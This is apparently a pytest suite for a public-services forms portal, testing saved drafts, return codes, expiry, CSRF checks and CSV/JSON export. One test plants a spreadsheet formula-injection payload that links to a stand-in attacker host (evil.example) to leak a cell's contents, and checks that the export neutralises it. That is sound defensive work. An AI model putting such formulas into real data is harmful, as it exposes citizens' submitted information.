"""Nothing lost: answers saved after every page, across restarts, and by return code."""

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from portal.clock import now
from portal.extensions import db
from portal.transactions.models import Draft, Submission
from tests.support.answers import BIN_ANSWERS, BINS, CARE, CARE_ANSWERS
from tests.support.forms import csrf_token, return_code, submit_form, walk

# The cookie that links a browser to its drafts (portal/transactions/draft_link.py).
LINK = "form-drafts"
# Drafts expire a fixed time after their last change.
pytestmark = pytest.mark.clock


def test_a_restarted_server_carries_on_where_the_person_was(make_app, tmp_path, soup):
    database = f"sqlite:///{tmp_path / 'portal.db'}"
    first = make_app(SQLALCHEMY_DATABASE_URI=database).test_client()
    walk(first, BINS, BIN_ANSWERS[:3])
    link = first.get_cookie("form-drafts").value

    # A new process: the same database (migrated as it is, not emptied), the same cookie.
    restarted = make_app(SQLALCHEMY_DATABASE_URI=database).test_client()
    restarted.set_cookie("form-drafts", link)
    assert restarted.get(f"{BINS}/check").headers["Location"] == f"{BINS}/collection-date"
    page = soup(restarted.get(f"{BINS}/address"))
    assert page.select_one("#answer-postcode")["value"] == "CF99 1AB"


def set_cookie_headers(response, name: str) -> list[str]:
    return [h for h in response.headers.getlist("Set-Cookie") if h.startswith(f"{name}=")]


def test_answers_outlast_the_browser_session(app, client, soup):
    """A phone that closes its browser loses its session cookie, not its drafts: the link
    to them lasts as long as a draft is kept, holds no answer and is this site's alone."""
    answered = submit_form(client, f"{BINS}/bin-type", {"answer": "recycling"})
    (header,) = set_cookie_headers(answered, LINK)
    days = app.config["DRAFT_LIFETIME_DAYS"]
    assert f"Max-Age={days * 86400}" in header
    assert "HttpOnly" in header and "SameSite=Lax" in header
    assert "recycling" not in header

    reopened = app.test_client()  # the session cookie is gone with the browser
    reopened.set_cookie(LINK, client.get_cookie(LINK).value)
    page = soup(reopened.get(f"{BINS}/bin-type"))
    assert page.select_one("input[value=recycling]").has_attr("checked")
    start = soup(reopened.get(BINS))
    assert "Continue your form" in start.select_one(".govuk-button--start").get_text()
    assert f"come back to them for {days} days" in start.get_text()


def test_a_link_that_was_altered_opens_nothing(app, client):
    walk(client, BINS, BIN_ANSWERS[:2])
    with app.app_context():
        (draft_id,) = db.session.scalars(select(Draft.id)).all()
    for forged in (draft_id, '{"report-a-missed-bin-collection": "' + draft_id + '"}', "", "x.y"):
        stranger = app.test_client()
        stranger.set_cookie(LINK, forged)
        assert stranger.get(f"{BINS}/check").headers["Location"] == f"{BINS}/bin-type"


def test_on_a_shared_computer_the_answers_can_be_taken_off_it(app, client):
    """Only once a return code exists: until then the answers could never be reached."""
    walk(client, BINS, BIN_ANSWERS[:2])
    refused = submit_form(client, f"{BINS}/save", to=f"{BINS}/forget")
    assert refused.status_code == 303  # no code yet: nothing is forgotten
    assert client.get(f"{BINS}/check").headers["Location"] != f"{BINS}/bin-type"

    code = return_code(client, BINS)
    forgotten = submit_form(client, f"{BINS}/save", to=f"{BINS}/forget")
    assert forgotten.status_code == 200
    assert set_cookie_headers(forgotten, LINK)[0].startswith(f"{LINK}=;")
    assert client.get(f"{BINS}/check").headers["Location"] == f"{BINS}/bin-type"
    # The answers are still there for the code.
    resumed = submit_form(client, "/forms/resume", {"code": code})
    assert resumed.headers["Location"] == f"{BINS}/address"


def test_the_back_button_shows_the_saved_answer(client, soup):
    walk(client, BINS, BIN_ANSWERS[:1])
    page = soup(client.get(f"{BINS}/bin-type"))
    assert page.select_one("input[value=recycling]").has_attr("checked")


def test_a_return_code_brings_the_draft_to_another_device(app, client, soup):
    walk(client, CARE, CARE_ANSWERS[:5])
    code = return_code(client, CARE)
    assert len(code) == 14

    other_device = app.test_client()
    response = submit_form(other_device, "/forms/resume", {"code": code.lower()})
    assert response.headers["Location"] == f"{CARE}/call-language"
    page = soup(other_device.get(f"{CARE}/full-name"))
    assert page.select_one("input#answer")["value"] == "Sam Jones"


def test_a_wrong_return_code_is_refused_in_the_readers_language(client, soup):
    response = submit_form(client, "/cy/forms/resume", {"code": "ZZZZ-ZZZZ-ZZZZ"})
    assert response.status_code == 400
    assert soup(response).title.get_text().startswith("Gwall:")


def test_expired_drafts_are_ignored_and_purged(app, client):
    walk(client, BINS, BIN_ANSWERS[:2])
    with app.app_context():
        old = now() - timedelta(days=app.config["DRAFT_LIFETIME_DAYS"] + 1)
        db.session.execute(update(Draft).values(updated_at=old))
        db.session.commit()
    assert client.get(f"{BINS}/check").headers["Location"] == f"{BINS}/bin-type"
    result = app.test_cli_runner().invoke(args=["data", "purge"])
    assert "Deleted 1 expired drafts." in result.output
    with app.app_context():
        assert db.session.scalar(select(Draft)) is None


def test_submissions_export_as_json_and_csv(app, client):
    walk(client, CARE, CARE_ANSWERS)
    submit_form(client, f"{CARE}/check")
    runner = app.test_cli_runner()
    exported = json.loads(
        runner.invoke(
            args=[
                "submissions",
                "export",
                "--form",
                "ask-for-a-care-needs-assessment",
                "--format",
                "json",
            ]
        ).output
    )
    assert exported[0]["answers"]["full-name"] == "Sam Jones"
    assert exported[0]["department"] == "adult-social-care"
    csv_output = runner.invoke(
        args=["submissions", "export", "--form", "ask-for-a-care-needs-assessment"]
    ).output
    rows = list(csv.DictReader(io.StringIO(csv_output)))
    assert rows[0]["What is the full name of the person who needs support?"] == "Sam Jones"


def test_the_command_line_export_defuses_formulas_a_citizen_typed(app, client):
    """The web export was safe; `flask submissions export` wrote `=HYPERLINK(...)` as is."""
    planted = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    answers = [(q, {"answer": planted} if q == "about" else a) for q, a in CARE_ANSWERS]
    walk(client, CARE, answers)
    submit_form(client, f"{CARE}/check")
    output = (
        app.test_cli_runner()
        .invoke(args=["submissions", "export", "--form", "ask-for-a-care-needs-assessment"])
        .output
    )
    rows = list(csv.DictReader(io.StringIO(output)))
    assert rows[0]["What would help most?"] == "'" + planted


def test_a_sent_form_leaves_no_draft_and_its_return_code_opens_nothing(app, client, soup):
    walk(client, CARE, CARE_ANSWERS)
    code = return_code(client, CARE)
    assert submit_form(client, f"{CARE}/check").headers["Location"] == f"{CARE}/sent"
    with app.app_context():
        # The answers live on only in the submission: no draft, no code hash.
        assert db.session.scalar(select(Draft)) is None

    other_device = app.test_client()
    response = submit_form(other_device, "/forms/resume", {"code": code})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "it does not match a saved form, or the form has expired" in page
    assert "Sam Jones" not in page
    assert other_device.get(f"{CARE}/full-name").get_data(as_text=True).count("Sam Jones") == 0


def test_opening_the_save_page_never_makes_or_changes_a_return_code(app, client, soup):
    walk(client, CARE, CARE_ANSWERS[:5])
    asked = client.get(f"{CARE}/save")
    assert asked.status_code == 200
    assert soup(asked).select_one(".app-needs-code") is None
    code = return_code(client, CARE)
    # A link from anywhere (another site's too), a refresh or a second click: the code the
    # person wrote down still works.
    again = client.get(f"{CARE}/save")
    assert soup(again).select_one(".app-needs-code") is None
    assert "You already have a return code" in again.get_data(as_text=True)
    assert client.post(f"{CARE}/save").status_code == 400  # no CSRF token: refused
    token = csrf_token(client, f"{CARE}/save")
    assert client.post(f"{CARE}/save", data={"csrf_token": token}).status_code == 303
    response = submit_form(app.test_client(), "/forms/resume", {"code": code})
    assert response.headers["Location"] == f"{CARE}/call-language"


def test_a_new_return_code_is_only_made_when_asked_for_and_says_the_old_one_stopped(
    app, client, soup
):
    walk(client, CARE, CARE_ANSWERS[:5])
    old = return_code(client, CARE)
    replaced = submit_form(client, f"{CARE}/save", {"replace": "yes"})
    assert "Your old code no longer works" in replaced.get_data(as_text=True)
    new = soup(replaced).select_one(".app-needs-code").get_text(strip=True)
    assert new != old
    assert submit_form(app.test_client(), "/forms/resume", {"code": old}).status_code == 400
    assert submit_form(app.test_client(), "/forms/resume", {"code": new}).status_code == 302


def test_a_browser_that_never_heard_its_form_was_sent_is_shown_its_reference(
    app, client, frozen_clock
):
    """A server stopped after storing the form but before answering: the browser still
    names the draft, which went with the sending. Sending again (or a refresh) shows the
    confirmation with the reference, and nothing is stored twice; much later, that old
    cookie opens nothing."""
    walk(client, BINS, BIN_ANSWERS)
    token = csrf_token(client, f"{BINS}/check")
    # What the browser kept, since no answer came: its session and its link to the draft.
    unanswered = {
        name: client.get_cookie(name).value for name in (app.config["SESSION_COOKIE_NAME"], LINK)
    }
    assert client.post(f"{BINS}/check", data={"csrf_token": token}).status_code == 302
    with app.app_context():
        (reference,) = db.session.scalars(select(Submission.reference)).all()

    again = app.test_client()
    for name, value in unanswered.items():
        again.set_cookie(name, value)
    sent = again.post(f"{BINS}/check", data={"csrf_token": token})
    assert sent.headers["Location"] == f"{BINS}/sent"
    assert reference in again.get(f"{BINS}/sent").get_data(as_text=True)
    with app.app_context():
        assert len(db.session.scalars(select(Submission)).all()) == 1

    frozen_clock.shift(timedelta(minutes=16))
    late = app.test_client()
    for name, value in unanswered.items():
        late.set_cookie(name, value)
    refused = late.post(f"{BINS}/check", data={"csrf_token": token})
    assert refused.headers["Location"] != f"{BINS}/sent"
    assert reference not in late.get(f"{BINS}/sent").get_data(as_text=True)
